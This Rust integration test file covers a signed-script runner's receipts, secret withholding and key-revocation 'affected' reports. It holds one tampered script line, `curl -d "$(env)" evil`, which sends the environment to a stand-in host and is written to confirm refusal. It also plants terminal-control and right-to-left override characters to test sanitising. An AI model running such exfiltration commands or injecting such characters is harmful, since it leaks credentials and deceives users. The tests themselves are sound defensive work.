//! Receipts of what was trusted, what `run` hands over, and `affected`: by the built programs.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use countersign_tests::bench::{Bench, ROOTS, bench};
use countersign_tests::{Said, Storage, run};
use serde_json::Value;
use std::process::Command;

const SECRET: &str = "hunter2-not-to-be-seen";

/// A project with scripts `job-N.sh` that are served: 1 good, 2 of a thief who has the release key,
/// 3 good but in the thief's time, 4 by a new key.
struct Jobs {
    bench: Bench,
    files: Storage,
    old: String,
}

impl Jobs {
    fn publish(&self, version: &str, key: &str, more: &str) {
        let bench = &self.bench;
        // It says what it was handed, and whether its receipt was there before it.
        let script = format!(
            "#!/bin/sh\n# {version}\nenv\n[ ! -f receipts.jsonl ] || wc -l < receipts.jsonl\n"
        );
        std::fs::write(bench.path(&format!("www/job-{version}.sh")), script).unwrap();
        bench.ok(&format!(
            "publish www/job-{version}.sh --project acme/tool --version {version} --key {key} {more}"
        ));
    }

    fn run(&self, version: &str, more: &str) -> Said {
        let (url, bench) = (&self.files.url, &self.bench);
        let mut command: Command = bench.command(&format!(
            "run {url}/job-{version}.sh --version {version} --with /bin/sh {more}"
        ));
        command.env("DEPLOY_TOKEN", SECRET).env("CI_JOB", "7");
        run(command).unwrap()
    }

    fn affected(&self, code: i32, more: &str) -> (Value, String) {
        let said = self.bench.client(&format!("affected --json {more}"));
        let out = String::from_utf8(said.out).unwrap();
        assert_eq!(said.code, code, "{out}\n{}", said.err);
        (serde_json::from_str(&out).unwrap(), said.err)
    }
}

fn jobs() -> Jobs {
    let bench = bench();
    std::fs::create_dir_all(bench.path("www")).unwrap();
    let files = Storage::serve(&bench.path("www")).unwrap();
    let old = bench.id("release1");
    bench.key("release2");
    let jobs = Jobs { bench, files, old };
    jobs.publish("1", "release1", "");
    jobs
}

fn lines(text: &[u8]) -> Vec<Value> {
    let text = String::from_utf8_lossy(text);
    let lines = text.lines().map(|l| serde_json::from_str(l).unwrap());
    lines.collect()
}

#[test]
fn a_receipt_is_there_before_the_program_and_holds_names_and_no_values() {
    let jobs = jobs();
    let bench = &jobs.bench;
    let file = bench.path("receipts.jsonl");
    // None unless it is asked for.
    let said = jobs.run("1", "");
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(!file.exists());
    let git = |args: &[&str]| {
        let mut git = Command::new("git");
        git.args(args).current_dir(bench.dir.path());
        git.output().is_ok_and(|o| o.status.success())
    };
    let remote = format!("https://ci:{SECRET}@git.example/acme");
    let has_git = git(&["init", "-q"]) && git(&["remote", "add", "origin", &remote]);
    let said = jobs.run(
        "1",
        "--receipts receipts.jsonl --host ci-7 --env CI_* --env PATH",
    );
    let out = String::from_utf8_lossy(&said.out).into_owned();
    assert_eq!(said.code, 0, "{}", said.err);
    // It could read one line of its own when it ran, and nothing of what was withheld.
    assert!(out.trim_end().ends_with('1'), "{out}");
    assert!(out.contains("CI_JOB=7") && !out.contains(SECRET), "{out}");
    assert!(said.err.contains("withheld from it: "), "{}", said.err);
    assert!(said.err.contains("DEPLOY_TOKEN"), "{}", said.err);
    assert!(!said.err.contains(SECRET), "{}", said.err);

    let text = std::fs::read(&file).unwrap();
    assert!(!String::from_utf8_lossy(&text).contains(SECRET));
    let [receipt] = &lines(&text)[..] else {
        panic!("one receipt");
    };
    let policy = ledger::sha256(&std::fs::read(bench.path("policy.toml")).unwrap());
    assert_eq!(receipt["policy"], ledger::hex32(&policy));
    assert_eq!(
        receipt["environment"],
        serde_json::json!(["CI_JOB", "PATH"])
    );
    assert_eq!(receipt["host"], "ci-7");
    assert_eq!(receipt["keys"], serde_json::json!([jobs.old]));
    assert_eq!(receipt["url"], format!("{}/job-1.sh", jobs.files.url));
    if has_git {
        let remotes = serde_json::json!(["https://…@git.example/acme"]);
        assert_eq!(receipt["remotes"], remotes);
    }
    // `verify` and `get` write them, too; the policy can ask for them.
    let policy = std::fs::read_to_string(bench.path("policy.toml")).unwrap();
    let asks =
        "[receipts]\nfile = \"receipts.jsonl\"\nhost = \"here\"\n[run]\nenvironment = []\n[log]";
    std::fs::write(bench.path("policy.toml"), policy.replacen("[log]", asks, 1)).unwrap();
    bench.ok("verify www/job-1.sh");
    bench.ok(&format!(
        "get {}/job-1.sh --version 1 -o got.sh",
        jobs.files.url
    ));
    let said = jobs.run("1", "");
    assert_eq!(said.code, 0, "{}", said.err);
    let all = lines(&std::fs::read(&file).unwrap());
    let of = |name: &str| all.iter().map(|r| r[name].clone()).collect::<Vec<_>>();
    assert_eq!(of("command"), ["run", "verify", "get", "run"]);
    assert_eq!(of("host"), ["ci-7", "here", "here", "here"]);
    assert_eq!(all[3]["environment"], serde_json::json!([]));
    // What a receipt cannot be written of is not used.
    let none = "--receipts /dev/full";
    let url = &jobs.files.url;
    bench.refused(
        2,
        "receipt-unwritable",
        &format!("verify www/job-1.sh {none}"),
    );
    let get = format!("get {url}/job-1.sh --version 1 -o other.sh {none}");
    bench.refused(2, "receipt-unwritable", &get);
    assert!(!bench.path("other.sh").exists());
    let said = jobs.run("1", none);
    assert!(said.code == 122 && said.out.is_empty(), "{}", said.err);
    // What is refused has none.
    let before = std::fs::read(&file).unwrap();
    std::fs::write(bench.path("www/job-1.sh"), "curl -d \"$(env)\" evil\n").unwrap();
    assert_eq!(jobs.run("1", "").code, 121);
    assert_eq!(std::fs::read(&file).unwrap(), before);
}

#[test]
fn who_ran_what_was_later_made_void_or_withdrawn_is_named_and_nobody_else() {
    let jobs = jobs();
    let bench = &jobs.bench;
    let ran = |version: &str, host: &str, more: &str| {
        let said = jobs.run(
            version,
            &format!("--receipts {host}.jsonl --host {host} {more}"),
        );
        assert_eq!(said.code, 0, "{}", said.err);
    };
    ran("1", "ci-1", "");
    // The thief's, and a genuine one after it.
    jobs.publish("2", "release1", "");
    jobs.publish("3", "release1", "");
    ran("2", "ci-2", "--env DEPLOY_*");
    ran("3", "ci-3", "");
    bench.ok(&format!(
        "get {}/job-2.sh --version 2 -o got.sh --receipts ci-4.jsonl",
        jobs.files.url
    ));
    let files = "--receipts ci-1.jsonl ci-2.jsonl ci-3.jsonl ci-4.jsonl";
    let (all, _) = jobs.affected(0, files);
    assert_eq!(
        (&all["receipts"], &all["affectedRuns"]),
        (&4.into(), &0.into())
    );

    let entry = |version: &str| {
        let releases = bench.json("releases acme/tool --json");
        let releases = releases["releases"].as_array().unwrap().clone();
        let ends = format!("@{version}");
        let of = |r: &&Value| r["purl"].as_str().unwrap().ends_with(&ends);
        releases.iter().find(of).unwrap()["index"].as_u64().unwrap()
    };
    let (old, second) = (&jobs.old, entry("2"));
    bench.ok(&format!("keys rotate --old {old} --new release2 {ROOTS}"));
    bench.ok(&format!(
        "keys revoke {old} --reason stolen~\u{202e}from~CI --compromised-since {second} {ROOTS}"
    ));
    bench.ok("publish www/job-3.sh --project acme/tool --version 3 --key release2 --restate");
    jobs.publish("4", "release2", "");
    ran("4", "ci-5", "");
    let files = &format!("{files} ci-5.jsonl");
    let (all, _) = jobs.affected(1, files);
    let affected = all["affected"].as_array().unwrap();
    let of = |name: &str| affected.iter().map(|r| r[name].clone()).collect::<Vec<_>>();
    assert_eq!(of("version"), ["2", "3", "2"]);
    assert_eq!(of("command"), ["run", "run", "get"]);
    assert_eq!(of("standing"), ["void", "void", "void"]);
    let run = &affected[0];
    assert_eq!(run["host"], "ci-2");
    assert_eq!(run["window"]["from"]["index"], second);
    assert!(run["window"]["until"]["index"].as_u64().unwrap() > entry("3"));
    assert_eq!(
        run["exposed"]["environment"],
        serde_json::json!(["DEPLOY_TOKEN"])
    );
    let next = run["next"].as_array().unwrap();
    assert!(
        next[0].as_str().unwrap().contains("DEPLOY_TOKEN"),
        "{next:?}"
    );
    // The genuine one was stated again, and nobody has to replace a secret for it.
    assert!(affected[1]["restated"]["index"].is_u64());
    let next = affected[1]["next"].to_string();
    assert!(
        next.contains("genuine") && !next.contains("replace"),
        "{next}"
    );
    assert!(affected[2]["exposed"].is_null());

    // A withdrawal, with what to use instead.
    bench.ok("withdraw --version 4 --project acme/tool --reason leaks --successor 5 --key release2 --yes");
    let (all, _) = jobs.affected(1, "--receipts ci-5.jsonl ci-5.jsonl");
    assert_eq!(
        (&all["affectedRuns"], &all["repeated"]),
        (&1.into(), &1.into())
    );
    let run = &all["affected"][0];
    assert_eq!(
        (&run["standing"], &run["reason"]),
        (&"withdrawn".into(), &"leaks".into())
    );
    assert!(run["next"].to_string().contains("use 5 in its place"));
    // For a person: no control character of a reason, a host or a path reaches the terminal.
    let said = bench.client("affected --receipts ci-2.jsonl");
    let text = String::from_utf8(said.out).unwrap();
    assert!(
        said.code == 1 && text.contains("AFFECTED: run job-2.sh"),
        "{text}"
    );
    assert!(
        text.contains("from CI") && !text.contains('\u{202e}'),
        "{text:?}"
    );
}

#[test]
fn what_is_no_receipt_is_listed_and_never_passed_over() {
    let jobs = jobs();
    let bench = &jobs.bench;
    jobs.run("1", "--receipts good.jsonl --host h");
    let good = std::fs::read_to_string(bench.path("good.jsonl")).unwrap();
    let write = |name: &str, text: &str| std::fs::write(bench.path(name), text).unwrap();
    let kinds = |name: &str| {
        let (all, _) = jobs.affected(3, &format!("--receipts {name}"));
        let kinds = all["malformed"].as_array().unwrap().iter();
        let kinds: Vec<String> = kinds
            .map(|m| m["kind"].as_str().unwrap().to_owned())
            .collect();
        (kinds, all["receipts"].as_u64().unwrap())
    };
    let half = &good[..good.len() / 2];
    write("half", &format!("{good}{half}"));
    assert_eq!(kinds("half"), (vec!["receipt-half-written".into()], 1));
    let newer = good.replace("countersign/v1", "countersign/v9");
    write("newer", &format!("{newer}{good}"));
    assert_eq!(kinds("newer"), (vec!["receipt-version".into()], 1));
    let hostile = "\u{1b}[2J{\"x\":\u{202e}\n";
    write("hostile", &format!("{hostile}{good}"));
    assert_eq!(kinds("hostile"), (vec!["receipt-malformed".into()], 1));
    let said = bench.client("affected --receipts hostile");
    let said = format!("{}{}", String::from_utf8_lossy(&said.out), said.err);
    assert!(!said.contains(['\u{1b}', '\u{202e}']), "{said:?}");
    write("long", &format!("{}\n{good}", "x".repeat(1 << 20)));
    assert_eq!(kinds("long"), (vec!["receipt-large".into()], 1));
    // Of another project, and of a view that the log does not show any more.
    let id = ledger::hex32(&ledger::sha256(b"another"));
    let mut other: Value = serde_json::from_str(&good).unwrap();
    other["projectId"] = id.into();
    write("other", &format!("{other}\n"));
    let (all, _) = jobs.affected(3, "--receipts other");
    assert_eq!(all["notInPolicy"][0]["receipts"], 1);
    let (all, _) = jobs.affected(0, "--receipts other --project acme/tool");
    assert_eq!(all["otherProjects"], 1);
    let mut ahead: Value = serde_json::from_str(&good).unwrap();
    ahead["head"]["size"] = 1_000.into();
    write("ahead", &format!("{ahead}\n"));
    assert_eq!(kinds("ahead"), (vec!["newer-view".into()], 1));
    // The log does not have what it says was trusted.
    let mut forged: Value = serde_json::from_str(&good).unwrap();
    forged["sha256"] = ledger::hex32(&ledger::sha256(b"other bytes")).into();
    write("forged", &format!("{forged}\n"));
    let (all, _) = jobs.affected(1, "--receipts forged");
    assert_eq!(all["affected"][0]["standing"], "unknown-release");
    // What is not there is an error, and what was found until then is told.
    let said = bench.client("affected --json --receipts forged missing");
    let all: Value = serde_json::from_slice(&said.out).unwrap();
    assert_eq!(
        (said.code, &all["error"]["kind"]),
        (2, &"unreadable".into())
    );
    assert_eq!(all["affected"].as_array().unwrap().len(), 1);
}
